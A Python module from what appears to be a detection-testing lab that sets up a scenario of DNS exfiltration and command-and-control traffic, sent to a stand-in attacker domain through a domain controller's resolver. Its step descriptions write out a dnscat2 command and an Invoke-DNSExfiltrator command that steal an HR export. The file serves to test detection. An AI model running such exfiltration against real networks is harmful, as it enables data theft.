"""Exfiltration scenarios of the dcwatch lab: command and control and data theft over DNS.

Loaded by lab/run.py (``load_extra_scenarios``): ``install(run)`` registers the scenarios with
run.py's ``scenario`` decorator; the attack steps live in lab/attacks_exfil.py.
"""

from __future__ import annotations

MOD = "lab.attacks_exfil"
# the attacker's domain: its name server would be the dnscat2 / DNSExfiltrator server
EVIL_DOMAIN = "cdn-updcheck.net"


def install(run) -> None:
    PW = run.PW

    step = run.module_step(MOD)

    @run.scenario(
        "dns_exfiltration",
        expected="2031",
        key_entities=f"WS1;10.77.0.21;{EVIL_DOMAIN};DC01;10.77.0.10",
        notes="Command and control and data theft over DNS from WS1 to the attacker domain "
        f"{EVIL_DOMAIN}, through the DC's DNS server (the workstations' resolver). WS1$ and "
        "WS2$ log on (kinit), alice logs on at WS1; both workstations make ordinary look-ups "
        "(about 50 names: AD SRV/A records, Microsoft, Google, GitHub, CDNs, MX/TXT/DMARC/DKIM of "
        "a partner domain), before, between and after the attack. (1) a dnscat2-style "
        "encrypted session: hex-encoded packets (ENC key exchange, SYN, command output, empty "
        "polls, FIN) in 63-character labels, record type picked at random among TXT, CNAME and "
        "MX; (2) a DNSExfiltrator-style file theft: an HR export (CSV, 300 rows) zipped, "
        "encrypted and base64url-encoded, sent as an init query and then one TXT query per "
        "chunk (<index>.<4 labels of up to 63 characters>.domain, names of up to 250 "
        "characters). The lab has no route to the Internet and the DC no forwarder, so Samba "
        "answers every name outside its zones NXDOMAIN (the tools are scripted not to wait for "
        "the server's replies); the queries on the wire are the channel. 2031 for WS1 and "
        f"{EVIL_DOMAIN} only; WS2's and WS1's ordinary look-ups must stay quiet.",
        audit_expected="",
        audit_tolerated="",
    )
    def sc_dns_exfiltration(s):
        run.machine_logon(s, "dcw-ws1")
        run.machine_logon(s, "dcw-ws2")
        run.kinit(s, "dcw-ws1", "alice", PW["alice"], "alice.cc", "alice logs on at WS1")
        step(s, "lookups", desc="ordinary look-ups of a workstation and its user")
        step(s, "lookups", ns="dcw-ws2", desc="ordinary look-ups of a workstation and its user")
        step(s, "dnscat2", "--domain", EVIL_DOMAIN, "--polls", "6",
             desc=f"dnscat2 --dns domain={EVIL_DOMAIN},server=10.77.0.10 (command session)")
        step(s, "lookups", "--rounds", "2", ns="dcw-ws2",
             desc="ordinary look-ups, two rounds as caches expire")
        step(s, "dnsexfiltrator", "--domain", EVIL_DOMAIN, "--rows", "300",
             desc=f"Invoke-DNSExfiltrator -i hr-export.csv -d {EVIL_DOMAIN} -p ... "
             "-s 10.77.0.10")
        step(s, "lookups", desc="ordinary look-ups")
